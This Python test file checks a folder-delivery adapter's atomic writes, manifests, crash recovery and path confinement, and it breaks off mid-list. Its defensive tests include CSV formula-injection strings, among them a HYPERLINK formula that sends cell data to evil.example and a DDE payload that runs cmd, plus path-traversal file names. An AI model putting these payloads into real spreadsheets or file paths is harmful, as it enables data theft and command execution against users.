"""Letters into a folder of this machine: whole or not at all, once, and nowhere else."""

from __future__ import annotations

import csv
import errno
import hashlib
import io
import json
import os
import re
import resource
import signal
import subprocess
import sys
import tracemalloc
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any, BinaryIO

import pytest
from lxml import etree

from adapters.contract import (
    Context,
    Finds,
    FindsOnRoute,
    HonoursRepeats,
    Letter,
    Polls,
    Previews,
    Probes,
    Request,
)
from adapters.folder import FolderAdapter
from adapters.folder_csv import write_csv
from adapters.folder_local import LocalPlace
from adapters.folder_place import PlaceFault, Trouble
from gateway.domain.errors import Ambiguous, DeliveryError, Permanent, Temporary, Unavailable
from gateway.domain.transit.envelope import Attachment
from tests.unit.adapters.doubles import NOW, ORIGINAL, PLAN, ScriptedHttp, attachment, envelope, letter

ID = letter().delivery_id
MANIFEST = {"mapping": {"objet": "envelope.subject", "fichiers": "files[].path"}}
WHOLE = {"manifest.json", "OK", "plan _été_.pdf", "enveloppe-7K2M-9QXT-4RB.xml"}
ADAPTER = FolderAdapter()


@pytest.fixture
def place(tmp_path: Path) -> Path:
    for name in ("in", "done"):
        (tmp_path / "place" / name).mkdir(parents=True)
    return tmp_path / "place"


def options(place: Path, **changes: Any) -> dict[str, Any]:
    plain = {
        "place": str(place),
        "inbox": "in",
        "taken": ["done"],
        "keeps": True,
        "marker": "OK",
        "manifest": MANIFEST,
    }
    return {**plain, **changes}


def context(place: Path, *allowed: Path, **changes: Any) -> Context:
    found = options(place, **changes)
    assert ADAPTER.check_options(found) == []
    return Context(ScriptedHttp([]), found, {}.__getitem__, lambda: NOW, folders=allowed or (place.parent,))


def seen(place: Path) -> dict[str, set[str]]:
    """What the system sees: the files of each letter, where letters appear and where they were moved."""
    return {
        f"{folder}/{one.name}": {str(file.relative_to(one)) for file in one.rglob("*") if file.is_file()}
        for folder in ("in", "done")
        for one in (place / folder).iterdir()
    }


def aside(place: Path) -> list[str]:
    return [one.name for one in (place / ".wasl").iterdir()] if (place / ".wasl").exists() else []


def test_kind_says_what_it_can() -> None:
    assert all(
        isinstance(ADAPTER, what) for what in (Finds, FindsOnRoute, HonoursRepeats, Polls, Previews, Probes)
    )
    assert ADAPTER.streams
    assert not ADAPTER.idempotent
    for keeps in (True, False):
        assert ADAPTER.can_find({"keeps": keeps}) is ADAPTER.honours_repeats({"keeps": keeps}) is keeps
    assert not ADAPTER.can_find({})


def test_letter_is_a_folder_with_its_files_the_signed_original_and_a_manifest(place: Path) -> None:
    done = ADAPTER.deliver(letter(), context(place))
    assert done.target_reference == ID
    assert not done.digests_confirmed
    assert seen(place) == {f"in/{ID}": WHOLE}
    folder = place / "in" / ID
    assert (folder / "plan _été_.pdf").read_bytes() == PLAN
    assert (folder / "enveloppe-7K2M-9QXT-4RB.xml").read_bytes() == ORIGINAL
    manifest = json.loads((folder / "manifest.json").read_text("utf-8"))
    assert manifest["objet"] == "Demande fictive <d'essai> & طلب تجريبي"
    assert manifest["fichiers"] == ["plan _été_.pdf", "enveloppe-7K2M-9QXT-4RB.xml"]
    assert aside(place) == []


def test_files_stand_in_a_folder_of_their_own_where_the_route_says(place: Path) -> None:
    ADAPTER.deliver(letter(), context(place, files_folder="pieces", names="numbered", name="bo-{deliveryId}"))
    assert seen(place) == {f"in/bo-{ID}": {"manifest.json", "OK", "pieces/001.pdf", "pieces/002.xml"}}
    manifest = json.loads((place / "in" / f"bo-{ID}" / "manifest.json").read_text("utf-8"))
    assert manifest["fichiers"] == ["pieces/001.pdf", "pieces/002.xml"]


def test_manifest_in_xml_is_what_the_mapping_says(place: Path) -> None:
    mapping = {
        "@id": "deliveryId",
        "objet": {"@langue": "envelope.language", "#text": "envelope.subject"},
        "test": "envelope.test",
        "piece": "attachments[].{nom: name, contenu: content}",
        "absent": "envelope.summary",
    }
    form = {
        "form": "xml",
        "name": "courrier.xml",
        "root": "courrier",
        "namespace": "urn:fictif",
        "mapping": mapping,
    }
    ADAPTER.deliver(letter(), context(place, manifest=form))
    root = etree.parse(place / "in" / ID / "courrier.xml").getroot()
    space = "{urn:fictif}"
    assert (root.tag, root.get("id")) == (f"{space}courrier", ID)
    assert root.findtext(f"{space}objet") == "Demande fictive <d'essai> & طلب تجريبي"
    assert root.findtext(f"{space}test") == "false"
    assert root.findtext(f"{space}piece/{space}contenu") == "plan _été_.pdf"
    assert root.find(f"{space}absent") is None


CSV = {"form": "csv", "mapping": {"numero": "deliveryId", "objet": "envelope.subject", "de": "senderName"}}


def table(place: Path, text: str | None = None, separator: str = ";") -> list[list[str]]:
    """The manifest as another reader of CSV has it."""
    octets = (place / "in" / ID / "manifest.csv").read_bytes() if text is None else text.encode()
    return list(csv.reader(io.StringIO(octets.decode("utf-8"), newline=""), delimiter=separator, strict=True))


def test_manifest_in_csv_is_a_row_under_its_header(place: Path) -> None:
    subject = 'Requête; "urgente"\r\nطلب'
    shown = ADAPTER.preview(letter(envelope=envelope(subject=subject)), context(place, manifest=CSV))
    ADAPTER.deliver(letter(envelope=envelope(subject=subject)), context(place, manifest=CSV))
    octets = (place / "in" / ID / "manifest.csv").read_bytes()
    assert (
        octets
        == (
            f'"numero";"objet";"de"\r\n"{ID}";"Requête; ""urgente""\r\nطلب";"Ministère fictif du Plan"\r\n'
        ).encode()
    )
    assert table(place)[1] == [ID, subject, "Ministère fictif du Plan"]
    [manifest] = [one for one in shown if one.url.endswith("/manifest.csv")]
    assert (manifest.body.encode(), manifest.headers["Content-Type"]) == (octets, "text/csv")


def test_manifest_in_csv_has_a_row_for_each_entry_where_the_route_says(place: Path) -> None:
    columns = {
        "lettre": "deliveryId", "fichier": "row.path", "octets": "row.size", "contenu": "row.content",
        "titre": "row.title", "test": "envelope.test",
    }  # fmt: skip
    form = {"form": "csv", "each": "files", "separator": ",", "bom": True, "mapping": columns}
    ADAPTER.deliver(letter(), context(place, manifest=form))
    octets = (place / "in" / ID / "manifest.csv").read_bytes()
    assert octets.startswith(b'\xef\xbb\xbf"lettre","fichier","octets"')
    header, *rows = table(place, octets.decode("utf-8-sig"), ",")
    assert header == list(columns)
    assert rows == [
        [ID, "plan _été_.pdf", "20", "plan _été_.pdf", "", "false"],
        [ID, "enveloppe-7K2M-9QXT-4RB.xml", str(len(ORIGINAL)), "enveloppe-7K2M-9QXT-4RB.xml", "", "false"],
    ]
    assert b",20," in octets  # a number is none of the texts that are quoted


FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\uff1d1+1", "\uff20x", "\tx",
]  # fmt: skip


INVISIBLE = " \u00a0\u200b\ufeff"


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
def test_text_that_a_spreadsheet_would_take_for_a_formula_is_a_text(text: str) -> None:
    for separator in ";,\t":
        written = write_csv(["a", "b"], [{"a": text, "b": "x"}], separator, guarded=True)
        [row] = table(Path(), written, separator)[1:]
        assert row[1] == "x"
        assert row[0].lstrip(INVISIBLE).startswith("'")
        assert row[0].replace("'", "") == text.replace("'", "")
        assert table(Path(), write_csv(["a"], [{"a": text}], separator, False), separator)[1] == [text]


@pytest.mark.parametrize("text", ["Objet", "1=2", "a@b.example", "طلب -1", "'=1", "", "1-2"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert table(Path(), write_csv(["a"], [{"a": text}], ";", True))[1] == [text]


@pytest.mark.parametrize("other", [",", "\t", ";", "|"])
def test_no_text_opens_a_cell_for_who_splits_at_another_sign(other: str) -> None:
    hostile = f'x{other}=1+1{other}"{other} =1+1\r\n=1+1{other}x'
    written = write_csv(["a", "b"], [{"a": hostile, "b": hostile}], ";", True)
    cells = [cell for row in csv.reader(io.StringIO(written, newline=""), delimiter=other) for cell in row]
    assert len(cells) >= 4
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)


@pytest.mark.parametrize(
    "form",
    [
        {"mapping": {"a": "files[].name"}},
        {"mapping": {"a": "files[0]"}},
        {"mapping": {"a": "envelope.body"}},
        {"each": "envelope.subject", "mapping": {"a": "row"}},
        {"each": "nothing", "mapping": {"a": "row"}},
    ],
    ids=["a list", "a table", "no text", "no list", "nothing"],
)
def test_what_is_no_cell_leaves_nothing(place: Path, form: dict[str, Any]) -> None:
    odd = letter(envelope=envelope(body="a\0b"))
    with pytest.raises(Permanent, match="WASL-DLV-074"):
        ADAPTER.deliver(odd, context(place, manifest={"form": "csv", **form}))
    assert not any(place.rglob("*/*"))


def test_letter_that_does_not_fit_the_manifest_leaves_nothing(place: Path) -> None:
    form = {"form": "xml", "mapping": {"texte": "envelope.body"}}
    strange = letter(envelope=envelope(body="a\x0bb"))
    with pytest.raises(Permanent, match="WASL-DLV-074"):
        ADAPTER.deliver(strange, context(place, manifest=form))
    with pytest.raises(Permanent, match="WASL-DLV-074"):
        ADAPTER.deliver(letter(), context(place, manifest={"mapping": {"x": "sum(envelope.subject)"}}))
    with pytest.raises(Permanent, match="WASL-DLV-017"):
        ADAPTER.deliver(letter(), context(place, max_bytes=10))
    assert not any(place.rglob("*/*"))


def test_written_files_are_read_again_where_the_route_says(place: Path) -> None:
    assert ADAPTER.deliver(letter(), context(place, read_back=True)).digests_confirmed


@pytest.mark.parametrize(
    ("readers", "file", "folder"),
    [("owner", 0o600, 0o700), ("group", 0o660, 0o770), ("everybody", 0o666, 0o777), ("system", 0o640, 0o750)],
)
def test_readers_may_read_and_remove(place: Path, readers: str, file: int, folder: int) -> None:
    before = os.umask(0o027)
    try:
        ADAPTER.deliver(letter(), context(place, readers=readers))
    finally:
        os.umask(before)
    found = place / "in" / ID
    assert found.stat().st_mode & 0o777 == folder
    assert {one.stat().st_mode & 0o777 for one in found.iterdir()} == {file}


def test_marker_stands_beside_the_letter_and_comes_last(place: Path) -> None:
    done, made = heard(context(place, marker_beside=".ready"))
    ADAPTER.deliver(letter(), made)
    assert seen(place) == {f"in/{ID}": WHOLE, f"in/{ID}.ready": set()}
    changes = [(one.method, one.url) for one, _ in done if one.method in ("WRITE", "RENAME")]
    assert changes[-2:] == [
        ("RENAME", next(url for what, url in changes if what == "RENAME")),
        ("WRITE", f"{place}/in/{ID}.ready"),
    ]
    shown = ADAPTER.preview(letter(), made)
    assert (shown[-1].method, shown[-1].url, shown[-1].body) == ("WRITE", f"{place}/in/{ID}.ready", "")
    ADAPTER.deliver(letter(), made)
    assert seen(place) == {f"in/{ID}": WHOLE, f"in/{ID}.ready": set()}


def test_marker_that_is_missing_is_made_by_whoever_looks(place: Path) -> None:
    ADAPTER.deliver(letter(), context(place))
    assert ADAPTER.find(ID, letter().reference, context(place, marker_beside=".ready")) is not None
    assert (place / "in" / f"{ID}.ready").read_bytes() == b""


def test_letter_that_the_system_moved_gets_no_marker_any_more(place: Path) -> None:
    ADAPTER.deliver(letter(), context(place, marker_beside=".ready"))
    (place / "in" / ID).rename(place / "done" / ID)
    (place / "in" / f"{ID}.ready").unlink()
    ADAPTER.deliver(letter(), context(place, marker_beside=".ready"))
    assert seen(place) == {f"done/{ID}": WHOLE}


def test_marker_that_cannot_be_made_leaves_doubt_and_the_next_look_makes_it(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plain = LocalPlace.write

    def full(self: LocalPlace, path: tuple[str, ...], pieces: Any) -> bool:
        if path[-1].endswith(".ready"):
            raise PlaceFault(Trouble.FULL, "full")
        return plain(self, path, pieces)

    with monkeypatch.context() as patch:
        patch.setattr(LocalPlace, "write", full)
        with pytest.raises(Ambiguous, match="WASL-DLV-004"):
            ADAPTER.deliver(letter(), context(place, marker_beside=".ready"))
        with pytest.raises(Temporary, match="WASL-DLV-079"):
            ADAPTER.find(ID, letter().reference, context(place, marker_beside=".ready"))
    assert seen(place) == {f"in/{ID}": WHOLE}
    assert ADAPTER.find(ID, letter().reference, context(place, marker_beside=".ready")) is not None
    assert seen(place) == {f"in/{ID}": WHOLE, f"in/{ID}.ready": set()}


# Not twice ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("moved", [False, True])
def test_repeat_finds_the_letter_where_the_system_put_it(place: Path, moved: bool) -> None:
    first = ADAPTER.deliver(letter(), context(place))
    if moved:
        (place / "in" / ID).rename(place / "done" / ID)
    before = seen(place)
    assert ADAPTER.deliver(letter(), context(place)).target_reference == first.target_reference
    assert ADAPTER.find(ID, letter().reference, context(place)) is not None
    assert seen(place) == before


def test_what_never_came_is_not_found(place: Path) -> None:
    assert ADAPTER.find(ID, letter().reference, context(place)) is None


def test_route_whose_system_removes_letters_claims_no_look_up(place: Path) -> None:
    with pytest.raises(Ambiguous, match="WASL-DLV-004"):
        ADAPTER.find(ID, letter().reference, context(place, keeps=False, taken=[]))


class Killed(BaseException):
    """The process is gone: nothing after it runs but what the system itself does."""


CHANGES = ("make_folder", "write", "rename", "settle", "remove_file", "remove_folder")


@contextmanager
def dying(monkeypatch: pytest.MonkeyPatch, at: int, after: bool) -> Iterator[list[str]]:
    """Die at the n-th change of the tree, before it or after it; the changes that were begun."""
    begun: list[str] = []

    def wrap(name: str) -> None:
        plain = getattr(LocalPlace, name)

        def changed(self: LocalPlace, *arguments: Any) -> None:
            begun.append(name)
            if len(begun) == at and not after:
                if name == "write":  # half of it
                    plain(self, arguments[0], [b"half"])
                raise Killed
            plain(self, *arguments)
            if len(begun) == at:
                raise Killed

        patch.setattr(LocalPlace, name, changed)

    with monkeypatch.context() as patch:
        for name in CHANGES:
            wrap(name)
        yield begun


@pytest.mark.parametrize("after", [False, True], ids=["before", "after"])
def test_whoever_dies_at_any_point_leaves_all_or_nothing_and_the_next_attempt_one(
    place: Path, monkeypatch: pytest.MonkeyPatch, after: bool
) -> None:
    made = context(place, files_folder="pieces", marker_beside=".ready")
    for number in range(1, 100):
        one = letter(delivery_id=f"{number:036d}")
        name = f"in/{one.delivery_id}"
        try:
            with dying(monkeypatch, number, after) as begun:
                ADAPTER.deliver(one, made)
        except Killed:
            assert seen(place).get(name) in (None, {"manifest.json", "OK", *inner()}), begun
            assert f"{name}.ready" not in seen(place) or name in seen(place), begun
            found = ADAPTER.find(one.delivery_id, one.reference, made)
            assert (found is not None) is (name in seen(place)), begun
        else:
            break
        ADAPTER.deliver(one, made)
        assert len(seen(place)) == 2 * number
        assert f"{name}.ready" in seen(place)
        assert seen(place)[name] == {"manifest.json", "OK", *inner()}
        assert aside(place) == []
    assert number > 10, "the changes were not seen"


def inner() -> set[str]:
    return {f"pieces/{name}" for name in WHOLE - {"manifest.json", "OK"}}


def test_whoever_dies_while_clearing_up_leaves_it_to_the_next(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for number in range(1, 100):
        one = letter(delivery_id=f"{number:036d}")
        left = place / ".wasl" / f"{one.delivery_id}~dead"
        left.mkdir(parents=True)
        (left / "half.pdf").write_bytes(b"half")
        try:
            with dying(monkeypatch, number, after=True):
                ADAPTER.find(one.delivery_id, one.reference, context(place))
        except Killed:
            ADAPTER.deliver(one, context(place))
            assert aside(place) == []
        else:
            break
    assert number > 3, "the changes were not seen"


def test_attempt_that_still_works_cannot_be_seen_after_the_next_one_looked(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A worker that lost its lease and comes back: its folder was taken from under it."""
    plain = LocalPlace.rename
    looked = []

    def late(self: LocalPlace, path: tuple[str, ...], to: tuple[str, ...]) -> None:
        if not looked and to[0] == "in":
            looked.append(ADAPTER.find(ID, letter().reference, context(place)))
        plain(self, path, to)

    monkeypatch.setattr(LocalPlace, "rename", late)
    with pytest.raises(Temporary):
        ADAPTER.deliver(letter(), context(place))
    assert looked == [None]
    assert seen(place) == {}
    ADAPTER.deliver(letter(), context(place))
    assert seen(place) == {f"in/{ID}": WHOLE}


def test_letter_that_another_worker_laid_and_the_system_took_meanwhile_is_not_laid_again(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plain = LocalPlace.write

    def late(self: LocalPlace, path: tuple[str, ...], pieces: Any) -> None:
        plain(self, path, pieces)
        monkeypatch.setattr(LocalPlace, "write", plain)
        (place / ".wasl" / path[1]).rename(place / "mine")  # not taken back by the other one
        ADAPTER.deliver(letter(), context(place))
        (place / "in" / ID).rename(place / "done" / ID)
        (place / "mine").rename(place / ".wasl" / path[1])

    monkeypatch.setattr(LocalPlace, "write", late)
    ADAPTER.deliver(letter(), context(place))
    assert seen(place) == {f"done/{ID}": WHOLE}
    assert aside(place) == []


def test_process_that_is_killed_while_it_writes_leaves_nothing_to_be_seen(place: Path) -> None:
    program = """
import io, os, signal, sys
from pathlib import Path
from tests.unit.adapters.test_folder import ADAPTER, context
from tests.unit.adapters.doubles import letter
class Deadly(io.BytesIO):
    def read(self, size=-1):
        os.kill(os.getpid(), signal.SIGKILL)
ADAPTER.deliver(letter(open=lambda _: Deadly()), context(Path(sys.argv[1])))
"""
    root = Path(__file__).parents[3]
    ended = subprocess.run([sys.executable, "-c", program, str(place)], cwd=root, timeout=60, check=False)
    assert ended.returncode == -signal.SIGKILL
    assert len(aside(place)) == 1
    assert seen(place) == {}
    ADAPTER.deliver(letter(), context(place))
    assert seen(place) == {f"in/{ID}": WHOLE}
    assert aside(place) == []


# Trouble ------------------------------------------------------------------------------------------


def failing(place: Path, one: Letter | None = None, **changes: Any) -> DeliveryError:
    with pytest.raises(DeliveryError) as caught:
        ADAPTER.deliver(one or letter(), context(place, **changes))
    assert seen(place) == {} if (place / "in").is_dir() else True
    return caught.value


def test_folder_that_is_not_there_is_not_made(place: Path) -> None:
    """It may be the place of a file system that is not mounted."""
    (place / "in").rmdir()
    fault = failing(place)
    assert (type(fault), fault.code) == (Temporary, "WASL-DLV-078")
    assert not (place / "in").exists()
    fault = failing(place / "other")
    assert (type(fault), fault.code) == (Temporary, "WASL-DLV-078")


@pytest.mark.parametrize(
    ("number", "code"),
    [
        (errno.ENOSPC, "WASL-DLV-079"),
        (errno.EDQUOT, "WASL-DLV-079"),
        (errno.EFBIG, "WASL-DLV-079"),
        (errno.EACCES, "WASL-DLV-078"),
        (errno.EROFS, "WASL-DLV-078"),
        (errno.EIO, "WASL-DLV-002"),
        (errno.ESTALE, "WASL-DLV-002"),
    ],
    ids=lambda value: errno.errorcode.get(value, value),
)
@pytest.mark.parametrize("call", ["mkdir", "fsync", "write", "rename"])
def test_what_the_system_refuses_is_temporary(
    place: Path, monkeypatch: pytest.MonkeyPatch, call: str, number: int, code: str
) -> None:
    def refuse(*_: Any, **__: Any) -> None:
        raise OSError(number, os.strerror(number))

    with monkeypatch.context() as patch:
        patch.setattr(os, call, refuse)
        fault = failing(place)
    assert (type(fault), fault.code) == (Temporary, code)
    ADAPTER.deliver(letter(), context(place))
    assert aside(place) == []


def test_file_system_that_is_full_is_temporary(place: Path) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, hard))  # the real thing, as a full quota is
    try:
        fault = failing(place, letter({"a1": b"x" * 200_000}, envelope=with_file(b"x" * 200_000)))
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert (type(fault), fault.code) == (Temporary, "WASL-DLV-079")
    assert aside(place) == []


def test_letter_that_is_larger_than_the_room_is_not_begun(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(LocalPlace, "room", lambda _: 10)
    fault = failing(place)
    assert (type(fault), fault.code) == (Temporary, "WASL-DLV-079")
    assert not (place / ".wasl").exists()


def with_file(octets: bytes, **changes: Any) -> Any:
    return envelope(attachments=(attachment(octets, **changes),))


class Breaking(io.RawIOBase):
    """A content that breaks off."""

    def __init__(self, trouble: Exception) -> None:
        self._trouble = trouble

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        raise self._trouble


def opening(make: Callable[[], Any]) -> Callable[[Attachment], BinaryIO]:
    return lambda _: make()


@pytest.mark.parametrize(
    "content",
    [
        lambda: io.BytesIO(PLAN[:-1]),
        lambda: io.BytesIO(PLAN + b"!"),
        lambda: io.BytesIO(PLAN[:-1] + b"!"),
        lambda: Breaking(OSError(errno.EIO, "broken")),
        lambda: Breaking(Unavailable("out")),
    ],
    ids=["short", "long", "other", "broken", "out"],
)
def test_content_that_the_store_does_not_give_is_temporary_and_no_doubt(
    place: Path, content: Callable[[], Any]
) -> None:
    fault = failing(place, letter(open=opening(content)))
    assert (type(fault), fault.code) == (Temporary, "WASL-DLV-015")
    assert fault.__cause__ is not None
    assert not isinstance(fault.__cause__, Unavailable)  # dispatch would take that for doubt
    assert aside(place) == []


def test_large_file_takes_no_memory(place: Path) -> None:
    size = 48 * 1024**2
    digest = hashlib.sha256()
    for _ in range(size // 65536):
        digest.update(bytes(65536))

    class Zeros(io.RawIOBase):
        left = size

        def readable(self) -> bool:
            return True

        def read(self, wanted: int = -1) -> bytes:
            given = min(wanted, self.left)
            self.left -= given
            return bytes(given)

    big = envelope(attachments=(attachment(b"", size=size, sha256=digest.hexdigest()),))
    tracemalloc.start()
    try:
        ADAPTER.deliver(letter(envelope=big, open=opening(Zeros)), context(place, read_back=True))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (place / "in" / ID / "plan _été_.pdf").stat().st_size == size
    assert peak < 3 * 1024**2


# Nowhere else -------------------------------------------------------------------------------------


@pytest.mark.parametrize("allowed", [(), ("other",), ("place/in",), ("plac",)])
def test_place_outside_the_folders_that_the_hub_allows_is_refused(
    place: Path, allowed: tuple[str, ...]
) -> None:
    folders = tuple(place.parent / name for name in allowed)
    with pytest.raises(Permanent, match="WASL-DLV-006"):
        ADAPTER.deliver(
            letter(), Context(ScriptedHttp([]), options(place), {}.__getitem__, lambda: NOW, folders=folders)
        )
    assert not any(place.rglob("*/*"))


@pytest.mark.parametrize("linked", ["place", "in", ".wasl"])
def test_link_out_of_the_allowed_folders_is_not_followed(place: Path, tmp_path: Path, linked: str) -> None:
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    for name in ("", "in", "done"):
        (outside / name).mkdir()
    path = place if linked == "place" else place / linked
    if path.exists():
        path.rename(tmp_path / "away")
    path.symlink_to(outside if linked == "place" else outside / "in")
    with pytest.raises(Temporary, match="WASL-DLV-078"):
        ADAPTER.deliver(letter(), context(place, place.parent))
    assert not any(outside.rglob("*/*"))


def test_link_that_the_operator_allows_is_the_operators_own_business(place: Path, tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(place)
    ADAPTER.deliver(letter(), context(tmp_path / "link", tmp_path / "link"))
    assert seen(place) == {f"in/{ID}": WHOLE}


def test_hostile_names_stay_in_the_letters_folder(place: Path) -> None:
    names = ["x/../../../evil", "..", "a\\b", "CON", "y" * 300, "y" * 300, "manifest.json", "OK", "‮fdp.exe"]
    files = tuple(attachment(id=f"a{at}", name=name) for at, name in enumerate(names))
    contents = {file.id: PLAN for file in files}
    ADAPTER.deliver(letter(contents, envelope=envelope(attachments=files)), context(place))
    [(name, found)] = seen(place).items()
    assert name == f"in/{ID}"
    assert len(found) == len(names) + 3
    assert not any("/" in one for one in found)
    assert json.loads((place / "in" / ID / "manifest.json").read_text("utf-8"))["objet"]
    assert (place / "in" / ID / "OK").read_bytes() == b""


def test_link_in_what_a_dead_attempt_left_is_removed_and_not_followed(place: Path, tmp_path: Path) -> None:
    (tmp_path / "kept").mkdir()
    (tmp_path / "kept" / "file").write_bytes(b"kept")
    left = place / ".wasl" / f"{ID}~dead"
    left.mkdir(parents=True)
    (left / "link").symlink_to(tmp_path / "kept")
    os.mkfifo(left / "pipe")
    ADAPTER.deliver(letter(), context(place))
    assert aside(place) == []
    assert (tmp_path / "kept" / "file").read_bytes() == b"kept"


def test_what_others_write_aside_is_left_alone(place: Path) -> None:
    other = place / ".wasl" / f"{ID}0~abc"
    other.mkdir(parents=True)
    ADAPTER.deliver(letter(), context(place))
    assert aside(place) == [other.name]


# Trying -------------------------------------------------------------------------------------------


def test_preview_shows_every_change_and_touches_nothing(place: Path) -> None:
    shown = ADAPTER.preview(letter(), context(place))
    assert [(request.method, request.url.rpartition("/")[2]) for request in shown] == [
        ("MKDIR", f"{ID}~‹random›"),
        ("WRITE", "plan _été_.pdf"),
        ("WRITE", "enveloppe-7K2M-9QXT-4RB.xml"),
        ("WRITE", "manifest.json"),
        ("WRITE", "OK"),
        ("RENAME", f"{ID}~‹random›"),
    ]
    assert shown[1].url == f"{place}/.wasl/{ID}~‹random›/plan _été_.pdf"
    assert shown[1].headers["SHA-256"] == hashlib.sha256(PLAN).hexdigest()
    assert "20 octets" in shown[1].body
    assert "طلب تجريبي" in shown[3].body
    assert shown[5].headers == {"To": f"{place}/in/{ID}"}
    assert not any(place.rglob("*/*"))


def test_preview_shows_what_a_delivery_then_does(place: Path) -> None:
    done, made = heard(context(place, files_folder="pieces", staging="aside/deep"))
    shown = ADAPTER.preview(letter(), made)
    ADAPTER.deliver(letter(), made)
    changes = [one for one, _ in done if one.method in ("MKDIR", "WRITE", "RENAME")]
    assert [one.url for one in changes[:2]] == [f"{place}/aside", f"{place}/aside/deep"]  # once for a route
    own = re.compile(r"~[0-9a-f]{12}")
    assert [replace(one, url=own.sub("~‹random›", one.url)) for one in changes[2:]] == list(shown)


def heard(made: Context) -> tuple[list[tuple[Request, str]], Context]:
    """The steps that are told in a context, each with its last answer, in the order of their ends."""
    steps: list[tuple[Request, str]] = []

    @contextmanager
    def step(request: Request) -> Iterator[Callable[[str], None]]:
        said: list[str] = [""]
        try:
            yield said.append
        finally:
            steps.append((request, said[-1]))

    return steps, replace(made, step=step)


def test_every_step_is_told_with_what_came_of_it(place: Path) -> None:
    done, made = heard(context(place, read_back=True))
    ADAPTER.deliver(letter(), made)
    told = [(one.method, one.url.removeprefix(f"{place}/"), said) for one, said in done]
    assert told[:4] == [
        ("OPEN", str(place), "open"),
        ("LIST", ".wasl", ".wasl: No such file or directory: not there"),
        ("STAT", f"in/{ID}", "not there"),
        ("STAT", f"done/{ID}", "not there"),
    ]
    staged = next(url for what, url, _ in told if what == "RENAME")
    assert ("WRITE", f"{staged}/plan _été_.pdf", "20 octets, on the disk") in told
    assert ("READ", f"{staged}/plan _été_.pdf", "20 octets") in told
    assert ("SYNC", staged, "done") in told
    assert told[-3:] == [("RENAME", staged, "done"), ("SYNC", "in", "done"), ("SYNC", ".wasl", "done")]


def test_look_up_tells_where_it_looked(place: Path) -> None:
    ADAPTER.deliver(letter(), context(place))
    done, made = heard(context(place))
    ADAPTER.find(ID, letter().reference, made)
    assert [(one.method, said) for one, said in done] == [
        ("OPEN", "open"), ("LIST", "0 names"), ("STAT", "folder"),
    ]  # fmt: skip


def test_probe_says_where_letters_appear_and_leaves_nothing(place: Path) -> None:
    assert "letters appear in in" in ADAPTER.probe(context(place))
    assert not any(place.rglob("*/*"))
    assert sorted(one.name for one in place.iterdir()) == ["done", "in"]


@pytest.mark.parametrize("missing", ["in", "done"])
def test_probe_names_the_folder_that_is_missing(place: Path, missing: str) -> None:
    (place / missing).rmdir()
    with pytest.raises(Temporary, match=f"WASL-DLV-078 folder {missing}"):
        ADAPTER.probe(context(place))


def test_probe_notices_two_file_systems(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(LocalPlace, "one_step", lambda *_: False)
    with pytest.raises(Temporary, match="two file systems"):
        ADAPTER.probe(context(place))


# Options ------------------------------------------------------------------------------------------

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f"
SFTP = {"user": "wasl", "secret": "key", "host_keys": [KEY]}
ANSWERS = {
    "folder": "rep",
    "form": "json",
    "reads": {"delivery_id": "answer.id", "register_number": "answer.n"},
}


def known_by(*keys: str) -> dict[str, Any]:
    return {"place": "sftp://files.example/x", "sftp": {**SFTP, "host_keys": list(keys)}}


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"place": "sftp://files.example/~/in", "sftp": SFTP},
        {"place": "sftp://[::1]:2222/in", "sftp": {**SFTP, "auth": "password"}},
        {"place": "sftp://files.example", "sftp": SFTP} | {"place": "sftp://files.example/"},
        {"sftp": {**SFTP, "host_keys": ["SHA256:" + "a" * 43, f"files.example {KEY} comment"]}, "place": "sftp://a/b"},
        {"answers": ANSWERS},
        {"answers": {**ANSWERS, "form": "csv", "separator": ",", "charset": "windows-1256", "each": "[*]"}},
        {"answers": {**ANSWERS, "after": "move", "moved_to": "lu"}},
    ],
)  # fmt: skip
def test_good_options_have_no_fault(changes: dict[str, Any]) -> None:
    assert ADAPTER.check_options({**options(Path("/srv/wasl")), **changes}) == []


@pytest.mark.parametrize(
    ("changes", "key"),
    [
        ({"place": None}, "place"),
        ({"place": "relative"}, "place"),
        ({"place": "/srv/../etc"}, "place"),
        ({"place": "sftp://user@host/x", "sftp": SFTP}, "place"),
        ({"place": "sftp://host/../x", "sftp": SFTP}, "place"),
        ({"place": "sftp://host:99999/x", "sftp": SFTP}, "place"),
        ({"place": "sftp:///x", "sftp": SFTP}, "place"),
        ({"place": "sftp://host/x"}, "sftp"),
        ({"sftp": SFTP}, "sftp"),
        (known_by(), "sftp.host_keys"),
        (known_by("*"), "sftp.host_keys"),
        (known_by(KEY, "ssh-dss AAAAB3NzaC1kc3M="), "sftp.host_keys"),
        (known_by(KEY.replace("ed25519", "rsa", 1)), "sftp.host_keys"),
        (known_by("MD5:aa:bb"), "sftp.host_keys"),
        ({"place": "sftp://h/x", "sftp": {**SFTP, "auth": "agent"}}, "sftp.auth"),
